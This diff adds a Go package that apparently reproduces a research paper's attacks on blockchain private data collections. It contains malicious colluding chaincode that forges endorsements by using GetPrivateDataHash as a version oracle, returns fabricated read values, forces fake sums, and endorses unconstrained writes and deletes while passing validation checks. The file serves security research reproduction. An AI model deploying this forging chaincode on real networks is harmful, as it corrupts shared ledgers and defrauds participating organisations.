@@ -1,0 +1,115 @@
+// Package attacks implements the paper's prototype attacks against
+// private data collections (§IV, §V-A/V-B):
+//
+//   - the fake PDC results injection family — read-only, write-only,
+//     read-write and delete-only — built on the endorsement forgery of
+//     §IV-A1 (GetPrivateDataHash as a version oracle plus colluding
+//     customized chaincode), and
+//
+//   - the PDC leakage extractors of §IV-B, which recover private values
+//     from the plaintext "payload" field of transactions stored in any
+//     peer's local blockchain.
+//
+// The attack code uses only capabilities the platform legitimately grants
+// a malicious organization: installing its own chaincode variant on its
+// own peers, choosing which endorsers a client contacts, and reading its
+// own copy of the ledger.
+package attacks
+
+import (
+	"strconv"
+
+	"repro/internal/chaincode"
+	"repro/internal/ledger"
+)
+
+// ForgeOptions configures the colluding malicious chaincode variant.
+type ForgeOptions struct {
+	// Collection under attack.
+	Collection string
+	// FakeReadValue is the value all colluders agree to return in the
+	// payload of forged read-only endorsements (§IV-A1: "malicious
+	// endorsers can collaboratively customize the chaincode function to
+	// return the same fake value").
+	FakeReadValue string
+	// FakeSum is the fabricated result colluders use for read-write
+	// (add) transactions, chosen to violate the victim's business rule
+	// (§V-A3 forges the sum 5 against org2's "> 10").
+	FakeSum int
+}
+
+// NewForgingPDC builds the malicious chaincode installed on colluding
+// peers. It mirrors the honest PDC contract's function names and
+// read/write-set shapes exactly — so the client-side consistency check
+// and the validator's version-conflict check both pass — while the
+// payload and written values are fabricated.
+func NewForgingPDC(opts ForgeOptions) chaincode.Router {
+	coll := opts.Collection
+
+	return chaincode.Router{
+		// readPrivate forges a read-only endorsement. The honest
+		// member implementation calls GetPrivateData and returns the
+		// value; this variant calls GetPrivateDataHash — which works
+		// on every peer and records the same ⟨hash(key), version⟩
+		// read-set entry — and returns the colluders' fake value.
+		"readPrivate": func(stub chaincode.Stub) ledger.Response {
+			args := stub.Args()
+			if len(args) != 1 {
+				return chaincode.ErrorResponse("readPrivate: want (key)")
+			}
+			if _, err := stub.GetPrivateDataHash(coll, args[0]); err != nil {
+				return chaincode.ErrorResponse(err.Error())
+			}
+			return chaincode.SuccessResponse([]byte(opts.FakeReadValue))
+		},
+
+		// setPrivate endorses any write without constraints — the
+		// paper's "PDC non-member peers with no interest in such
+		// private data will add no constraints" (§IV-A2).
+		"setPrivate": func(stub chaincode.Stub) ledger.Response {
+			args := stub.Args()
+			if len(args) != 2 {
+				return chaincode.ErrorResponse("setPrivate: want (key, value)")
+			}
+			if err := stub.PutPrivateData(coll, args[0], []byte(args[1])); err != nil {
+				return chaincode.ErrorResponse(err.Error())
+			}
+			return chaincode.SuccessResponse(nil)
+		},
+
+		// addPrivate forges the read half of a read-write transaction:
+		// instead of reading the true value, colluders agree on a fake
+		// base so the written sum becomes FakeSum regardless of the
+		// real state (§IV-A3 / §V-A3).
+		"addPrivate": func(stub chaincode.Stub) ledger.Response {
+			args := stub.Args()
+			if len(args) != 2 {
+				return chaincode.ErrorResponse("addPrivate: want (key, delta)")
+			}
+			// Record the hashed read so the read set (and its
+			// version) matches what an honest member would produce.
+			if _, err := stub.GetPrivateDataHash(coll, args[0]); err != nil {
+				return chaincode.ErrorResponse(err.Error())
+			}
+			out := strconv.Itoa(opts.FakeSum)
+			if err := stub.PutPrivateData(coll, args[0], []byte(out)); err != nil {
+				return chaincode.ErrorResponse(err.Error())
+			}
+			return chaincode.SuccessResponse([]byte(out))
+		},
+
+		// delPrivate endorses any delete without constraints
+		// (§IV-A4: delete is a write with is_delete=true and a null
+		// read set, so non-members endorse it without error).
+		"delPrivate": func(stub chaincode.Stub) ledger.Response {
+			args := stub.Args()
+			if len(args) < 1 {
+				return chaincode.ErrorResponse("delPrivate: want (key, ...)")
+			}
+			if err := stub.DelPrivateData(coll, args[0]); err != nil {
+				return chaincode.ErrorResponse(err.Error())
+			}
+			return chaincode.SuccessResponse(nil)
+		},
+	}
+}
